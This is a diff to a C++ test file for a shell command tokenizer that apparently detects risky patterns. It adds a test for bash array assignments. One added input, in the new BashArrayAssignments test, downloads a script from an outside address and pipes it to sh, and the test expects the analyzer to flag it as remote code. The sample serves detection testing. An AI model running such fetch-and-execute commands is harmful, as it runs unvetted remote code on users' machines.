@@ -56,6 +56,14 @@ TEST(ShellTokenizer, SimpleCommandYieldsExecWithBasename) {
   EXPECT_EQ(f[0].command, "/usr/bin/git status");
 }
 
+TEST(ShellTokenizer, BashArrayAssignments) {
+  EXPECT_FALSE(Has("array=(val val val)", "shell.unanalyzable"));
+  EXPECT_EQ(Programs(Analyze("arr=(a \"b c\" # note\n d); echo ${arr[0]}")), "echo");
+  // Elements are words: their substitutions are analyzed like any word's.
+  EXPECT_TRUE(Has("files=($(curl -s http://203.0.113.5/x | sh))", "process.remote_code"));
+  EXPECT_TRUE(Has("a=(1 2", "shell.unanalyzable"));
+}
+
 TEST(ShellTokenizer, ListsAndPipelines) {
   EXPECT_EQ(Programs(Analyze("a; b && c || d | e & f")), "a,b,c,d,e,f");
   EXPECT_EQ(Programs(Analyze("a\nb\n\nc")), "a,b,c");
